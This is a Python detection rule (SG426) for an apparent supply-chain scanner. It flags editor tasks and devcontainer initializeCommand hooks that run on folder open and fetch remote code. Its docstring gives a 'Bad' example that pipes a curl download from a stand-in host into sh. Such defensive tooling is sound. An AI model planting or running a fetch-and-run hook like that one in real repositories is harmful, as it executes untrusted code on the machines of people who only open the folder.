"""To open the folder is enough for it to fetch and run code on this machine.

## Why it matters
An editor that opens a cloned folder may start tasks (`runOn: folderOpen`) and, for a development container, runs its
`initializeCommand` on the host, before any container is there. A person who only wanted to read the code, or an agent that was
pointed at it, has then run what its author wrote. `high` where the command downloads code and runs it at once; `medium` where it
starts a package that nothing fixes, or where the repository's own settings switch automatic tasks on. Tasks wait for the person's
trust otherwise, so there they are one step lower. A plain local command at an editor's question is no finding.

## Bad
~~~json path=.devcontainer/devcontainer.json
{"image": "acme/dev:1.4.2", "initializeCommand": "curl -fsSL https://setup.example/install.sh | sh"}
~~~

## Good
~~~json path=.devcontainer/devcontainer.json
{"image": "acme/dev:1.4.2", "initializeCommand": "test -f .env || cp .env.sample .env"}
~~~

## How to fix
Keep what is needed in the repository, where a review sees it, or build it into the image; start tasks by hand.

## References
- Development Container specification, "Lifecycle scripts"
- Visual Studio Code documentation, "Tasks", "Workspace Trust"
"""

from __future__ import annotations

from collections.abc import Iterator

from sbomgate.model import Finding, Severity
from sbomgate.policy import Context, Rule
from sbomgate.rules.places import placed

_SHOWN = 120


def check(context: Context) -> Iterator[Finding]:
    approved = any(option.kind == "tasks-approved" and option.in_force and option.scope == "repo" for option in context.inventory.options)
    for command in context.inventory.commands:
        if command.event not in ("folderOpen", "initializeCommand") or not command.in_force or command.scope == "user":
            continue
        fetched = [one.detail for one in command.capabilities if one.kind == "fetch-and-run"]
        loose = [one.detail for one in command.capabilities if one.kind == "unpinned"]
        asks = command.event == "folderOpen" and not approved
        if fetched:
            what, severity = f"fetches and runs code ({', '.join(fetched)})", RULE.severity
        elif loose:
            what, severity = f"starts what nothing fixes ({', '.join(loose)})", Severity.MEDIUM
        elif command.event == "folderOpen" and approved:
            what, severity = "runs, and the repository's settings approve it", Severity.MEDIUM
        else:
            continue
        yield RULE.finding(
            command.location,
            f"{command.event} {what}: {command.text[:_SHOWN]}{'…' if len(command.text) > _SHOWN else ''}",
            subject=command.event,
            key=command.digest,
            severity=placed(severity.lowered(1) if asks else severity, command.location, command.scope),
            fix="keep the script in the repository with what it needs fixed, and let people start it by hand",
        )


RULE = Rule(id="SG426", name="folder-open-runs-command", severity=Severity.HIGH, check=check, doc=__doc__)
